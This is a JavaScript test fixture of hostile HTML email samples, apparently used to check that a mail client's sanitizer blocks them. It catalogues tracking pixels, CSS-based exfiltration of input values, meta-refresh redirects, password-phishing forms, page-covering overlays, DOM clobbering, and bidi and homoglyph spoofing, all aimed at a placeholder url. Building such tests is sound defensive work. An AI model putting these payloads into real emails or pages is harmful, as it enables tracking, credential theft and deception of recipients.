import { hostile } from './bait.js';

/** HTML that would tell its sender who read it and when, or go somewhere. */
export const MAILS_THAT_LOAD = hostile('load', {
  image: ({ url }) => `<img src="${url}.png" width="1" height="1">`,
  'image-without-scheme': ({ url }) => `<img src="${url.slice(6)}.png"><img src="\\\\${url.slice(8)}.png">`,
  'image-spaced-scheme': ({ url }) => `<img src=" h\nt\ttps:${url.slice(6)}.png">`,
  'image-set': ({ url }) => `<img srcset="${url}-1.png 1x, ${url}-2.png 2x" sizes="100vw">`,
  'image-lazy': ({ url }) => `<img loading="eager" fetchpriority="high" src="${url}.png" lowsrc="${url}-low.png" dynsrc="${url}.avi">`,
  picture: ({ url }) => `<picture><source srcset="${url}.avif" type="image/avif"><img src="${url}.png"></picture>`,
  'image-of-an-input': ({ url }) => `<input type="image" src="${url}.png" alt="press">`,
  'body-background': ({ url }) => `<body background="${url}.png"><p>text</p>`,
  'table-background': ({ url }) => `<table background="${url}.png"><tr><td background="${url}-td.png">x</table>`,
  video: ({ url }) => `<video autoplay muted src="${url}.mp4" poster="${url}.png"></video>`,
  'video-source': ({ url }) => `<video autoplay preload="auto"><source src="${url}.webm"><track default src="${url}.vtt"></video>`,
  audio: ({ url }) => `<audio autoplay preload="auto" src="${url}.mp3"></audio><bgsound src="${url}.mid">`,
  frame: ({ url }) => `<iframe src="${url}"></iframe><frameset><frame src="${url}-2"></frameset>`,
  'frame-without-sandbox': ({ url }) => `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" src="${url}"></iframe>`,
  object: ({ url }) =>
    `<object data="${url}.swf"><param name="movie" value="${url}.swf"></object><embed src="${url}.pdf"><applet code="${url}">`,
  portal: ({ url }) => `<portal src="${url}"></portal><fencedframe src="${url}"></fencedframe><webview src="${url}"></webview>`,
  'style-sheet': ({ url }) => `<link rel="stylesheet" href="${url}.css"><link rel="STYLESHEET alternate" href="${url}-2.css">`,
  'link-before-it-is-needed': ({ url }) =>
    ['preload" as="image', 'modulepreload', 'prefetch', 'prerender', 'dns-prefetch', 'preconnect', 'icon', 'manifest', 'import']
      .map((rel) => `<link rel="${rel}" href="${url}">`)
      .join(''),
  'style-import': ({ url }) => `<style>@import "${url}.css"; @import url(${url}-2.css) print;</style>`,
  'style-url': ({ url }) =>
    `<div style="background-image:url('${url}.png');list-style:url(${url}-2.png);cursor:url(${url}.cur),auto">x</div>`,
  'style-url-escaped': ({ url }) => `<div style="background:\\75\\72\\6c(${url}.png);b/**/ackground:u/**/rl(${url}-2.png)">x</div>`,
  'style-image-set': ({ url }) =>
    `<style>p{content:image-set("${url}.png" 1x);mask:url(${url}.svg#m);filter:url(${url}.svg#f)}</style><p>x</p>`,
  'style-font': ({ url }) => `<style>@font-face{font-family:spy;src:url(${url}.woff2)}*{font-family:spy!important}</style><p>text</p>`,
  'style-spies-on-values': ({ url }) =>
    `<style>input[value^="4"]{background:url(${url}-4)}a:visited{background:url(${url}-v)}</style><input value="42">`,
  'style-after-comment': ({ url }) => `<style><!-- </style --><style>*{background:url(${url}.png)}</style>`,
  'svg-image': ({ url }) => `<svg><image href="${url}.png" width="9" height="9"/><image xlink:href="${url}-2.png"/></svg>`,
  'svg-use': ({ url }) => `<svg><use href="${url}.svg#x"/><use xlink:href="data:image/svg+xml,<svg id='x'/>#x"/></svg>`,
  'svg-filter-image': ({ url }) =>
    `<svg><filter id="f"><feImage href="${url}.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  'svg-paint': ({ url }) => `<svg><rect fill="url(${url}.svg#p)" width="9" height="9"/><style>@import '${url}.css';</style></svg>`,
  'svg-in-a-picture': ({ url }) =>
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${url}.png'/></svg>">`,
  'meta-refresh': ({ url }) => `<meta http-equiv="refresh" content="0; url=${url}">`,
  'meta-in-noscript': ({ url }) => `<noscript><meta http-equiv="refresh" content="0;${url}"></noscript>`,
  'meta-policy': () =>
    `<meta http-equiv="Content-Security-Policy" content="default-src *"><meta http-equiv="x-dns-prefetch-control" content="on">`,
  'meta-cookie': () => '<meta http-equiv="set-cookie" content="session=stolen"><meta name="referrer" content="unsafe-url">',
  base: ({ url }) => `<base href="${url}/" target="_top"><a href="next">press</a><img src="pixel.png">`,
  form: ({ url }) =>
    `<form action="${url}" method="post"><input name="password" type="password"><button autofocus>Log in again</button></form>`,
  'form-from-afar': ({ url }) =>
    `<form id="login" action="${url}"></form><input form="login" name="pin"><button form="login" formtarget="_top">Go</button>`,
  'isindex-and-keygen': ({ url }) => `<isindex action="${url}" prompt="Password"><keygen name="k"><menuitem icon="${url}.png">`,
  'link-that-pings': ({ url }) => `<p><a ping="${url}" target="_self" download href="https://good.example/">good.example</a></p>`,
  'link-that-stays': ({ url }) => `<a target="_top" href="${url}">press</a><a target="_parent" href="${url}-2">press</a>`,
  'link-that-attributes': ({ url }) =>
    `<a attributionsrc="${url}" attributionsourceid="1" href="https://good.example/">x</a><img attributionsrc="${url}-2">`,
  'cid-like-a-page': ({ url }) => `<img src="cid:${url.slice(8)}"><img src="cid:../../../api/v1/agents"><img src="CID:javascript:1">`,
  'picture-of-the-desk': () => '<img src="/api/v1/auth/logout"><img src="../../logout"><img src="/api/v1/attachments/x/../../me">',
  'head-and-body': ({ url }) =>
    `<html manifest="${url}.appcache"><head profile="${url}"><body><p cite="${url}">x</p><q cite="${url}">y</q>`,
  'speculation-rules': ({ url }) => `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${url}"]}]}</script>`,
  'xml-style-sheet': ({ url }) =>
    `<?xml-stylesheet href="${url}.xsl" type="text/xsl"?><xml src="${url}.xml"></xml><xss style="behavior:url(${url}.htc)">`,
});

/** HTML that hides the desk behind itself, or takes names that scripts use. */
export const MAILS_THAT_PRETEND = hostile('pretend', {
  'covers-the-page': ({ url }) =>
    `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff"><a href="${url}">Your session has ended. Log in again</a></div>`,
  'covers-by-sheet': () =>
    '<style>html,body,div{position:fixed!important;inset:0!important;z-index:2147483647!important;width:200vw;height:200vh}</style><div>x</div>',
  'covers-from-afar': () => '<div style="position:absolute;left:-3000px;top:-3000px;width:9000px;height:9000px;background:#fff">x</div>',
  'covers-by-margin': () => '<table style="margin:-2000px" width="9999" height="99999"><tr><td>x</table><font size="+99">x</font>',
  'hides-the-page': () =>
    '<style>*{display:none!important;pointer-events:none}:root{visibility:hidden;transform:scale(99)}</style><p>x</p>',
  'top-layer': () => '<dialog open popover="manual" style="inset:0">Log in again</dialog><div popover="auto">x</div>',
  'looks-like-the-desk': () =>
    '<nav aria-label="Main"><a href="#">Inbox</a></nav><main role="main">Nothing here</main><div role="alertdialog" aria-modal="true">Stop</div>',
  'takes-names-of-the-document': () =>
    [
      'body',
      'cookie',
      'head',
      'forms',
      'title',
      'location',
      'getElementById',
      'createElement',
      'querySelector',
      'currentScript',
      'defaultView',
    ]
      .map((name) => `<img name="${name}"><form name="${name}" id="${name}"></form>`)
      .join(''),
  'takes-names-of-the-window': () =>
    ['document', 'window', 'self', 'top', 'parent', 'fetch', 'localStorage', 'Parley', 'root', 'app', 'onerror', 'location', 'name']
      .map((name) => `<a id="${name}"></a><a id="${name}" name="href" href="x:1"></a>`)
      .join(''),
  'takes-properties-of-forms': () =>
    '<form id="f"><input name="attributes"><input name="parentNode"><input name="children"><input name="remove"></form>',
  'takes-properties-of-all': () =>
    '<form id="g"><input name="nodeName"><input name="tagName"><input name="removeAttribute"><input id="innerHTML"></form>',
  'pollutes-a-prototype': () => '<p id="__proto__" name="constructor" data-__proto__="x" lang="__proto__" dir="constructor">x</p>',
  'bidi-everywhere': () => '<bdo dir="rtl">moc.knab</bdo> \u202egnp.exe\u202c <p dir="rtl">\u2067evil\u2069 \u200f!</p>',
  'homoglyph-link': () =>
    '<a href="https://\u0430pple.example/">https://apple.example/</a> <a href="https://good.example@xn--80ak6aa92e.example/">good.example</a>',
  'text-that-never-ends': () => `<p>${'W'.repeat(20_000)}</p><p>${'Z\u0334\u0321\u0349'.repeat(500)}</p>`,
  'tables-without-end': () => `${'<table><tr><td>'.repeat(80)}x`,
  'colour-of-the-page': () =>
    '<font color="transparent"><a style="color:transparent" href="https://good.example">unseen</a></font><p style="user-select:none;opacity:0">x</p>',
});
